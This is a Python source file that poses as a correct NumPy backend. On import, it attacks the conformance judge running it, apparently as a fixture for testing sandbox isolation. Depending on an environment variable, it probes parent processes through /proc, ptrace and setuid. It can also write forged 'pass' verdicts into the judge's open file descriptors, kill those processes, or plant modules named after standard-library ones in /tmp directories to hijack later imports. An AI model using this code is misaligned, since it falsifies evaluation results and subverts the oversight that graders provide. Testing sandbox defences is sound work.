"""A backend on NumPy that is right, and attacks the judge as soon as it is imported.

It runs in a worker, on Python 3.6 too. ATTACK in the environment says what it does:

* `look`: tries to reach each other process, and ends its import with what it could do, as JSON;
* `forge`: writes a verdict into every journal that it can open, and kills whoever it may;
* `plant`: puts modules of the standard library's names where a judge that is started later may find them.
"""

import ctypes
import json
import os
import signal
import socket
import sys

from faulty import *  # noqa: F403 - what it computes is right

FORGED = '\n{"kind": "case", "id": "forged/by/a/worker", "verdict": "pass"}\n'
PLANTED = "import os; open({!r}, 'a').write('%s\\n' % os.getpid()); import sys; del sys.modules[__name__]\n"


def backend():
    """Its name."""
    return "attacker"


def others():
    """The processes above this one that belong to the run: the judge's, and what started it."""
    found, at = [], os.getpid()
    while at > 1 and len(found) < int(os.environ["ATTACK_DEPTH"]):
        with open(f"/proc/{at}/stat", "rb") as stream:
            at = int(stream.read().rpartition(b")")[2].split()[1])
        found.append(at)
    return found


def opened(number):
    """Its standard output, for writing."""
    os.close(os.open(f"/proc/{number}/fd/1", os.O_WRONLY | os.O_NONBLOCK))


def memory(number):
    """Its memory."""
    with open(f"/proc/{number}/mem", "r+b"):
        pass


def variables(number):
    """Its environment."""
    with open(f"/proc/{number}/environ", "rb") as stream:
        assert stream.read(1)


def signalled(number):
    """A signal that changes nothing."""
    os.kill(number, signal.SIGCONT)


def traced(number):
    """PTRACE_SEIZE, which does not stop it."""
    library = ctypes.CDLL(None, use_errno=True)
    if library.ptrace(0x4206, number, None, None) != 0:
        raise OSError(ctypes.get_errno(), "ptrace")
    library.ptrace(17, number, None, None)


def limited(number):
    """Its limits, set to what they are."""
    import resource

    held = resource.prlimit(number, resource.RLIMIT_CPU)
    resource.prlimit(number, resource.RLIMIT_CPU, held)


def become():
    """The judge, or root."""
    for user in (0, 10001):
        try:
            os.setuid(user)
        except OSError:
            continue
        if os.getuid() == user:
            return
    raise OSError("refused")


def spawned():
    """An answer from the process that starts workers."""
    with open("/proc/net/unix") as stream:
        names = [line.split()[-1] for line in stream if line.split()[-1].startswith("@")]
    for name in names:
        with socket.socket(socket.AF_UNIX) as client:
            client.settimeout(2)
            client.connect("\0" + name[1:])
            client.sendall(b"\0\0\0\x20" + b'{"op": "strays", "arguments": []}'[:32])
            if client.recv(1):
                return
    raise OSError("no answer")


def written():
    """A file of the suite's, or of the judge's environment or directory."""
    import conformance

    for folder in (
        os.path.dirname(conformance.__file__),
        os.path.dirname(os.environ.get("TMPDIR", "")),
        "/opt/judge/bin",
        *glob_judges(),
    ):
        try:
            path = os.path.join(folder, f"attack-{os.getpid()}")
            open(path, "w").close()
            os.remove(path)
        except OSError:
            continue
        if folder != "/tmp":  # everybody's, and sticky: no file in it is another user's to change
            return
    raise OSError("refused")


def glob_judges():
    """The directories that judges have made."""
    import glob

    return glob.glob("/tmp/conform-suite-*")


def connected():
    """A TCP connection to this machine."""
    with socket.socket() as server:
        server.bind(("127.0.0.1", 0))
        server.listen(1)
        with socket.create_connection(server.getsockname(), 2):
            pass


def succeeds(attempt, *arguments):
    """Whether an attempt succeeds."""
    try:
        attempt(*arguments)
    except (OSError, AssertionError):
        return False
    return True


def look():
    """What could be done, by the attempt's name."""
    found = {}
    for attempt in (opened, memory, variables, signalled, traced, limited):
        if any([succeeds(attempt, number) for number in others()]):
            found[attempt.__name__] = True
    for attempt in (become, spawned, written, connected):
        if succeeds(attempt):
            found[attempt.__name__] = True
    return sorted(found)


def forge():
    """Write a verdict into whatever can be opened, and kill who may be killed."""
    for number in others():
        for name in ("1", "2", "3", "4", "5", "6", "7", "8", "9", "10", "11", "12"):
            try:
                descriptor = os.open(f"/proc/{number}/fd/{name}", os.O_WRONLY | os.O_NONBLOCK)
            except OSError:
                continue
            try:
                os.write(descriptor, FORGED.encode())
            except OSError:
                pass  # not a stream
            os.close(descriptor)
    if os.environ.get("ATTACK_KILLS"):
        for number in others():
            succeeds(os.kill, number, signal.SIGKILL)


def plant():
    """Modules in each directory above this process's own that can be written to."""
    folder = os.getcwd()
    while len(folder) > len("/tmp"):
        folder = os.path.dirname(folder)
        for name in ("pdb", "uuid", "queue", "shlex", "pytest", "numpy"):
            path = os.path.join(folder, name + ".py")
            if folder.startswith("/tmp/") and not os.path.exists(path):
                try:
                    with open(path, "w") as stream:
                        stream.write(PLANTED.format(os.environ["ATTACK_MARK"]))
                except OSError:
                    pass  # refused


if os.environ.get("ATTACK") == "look":
    raise ImportError("could: " + json.dumps(look()))
if os.environ.get("ATTACK") == "forge" and "conformance.worker.main" in sys.modules:
    forge()
if os.environ.get("ATTACK") == "plant":
    plant()
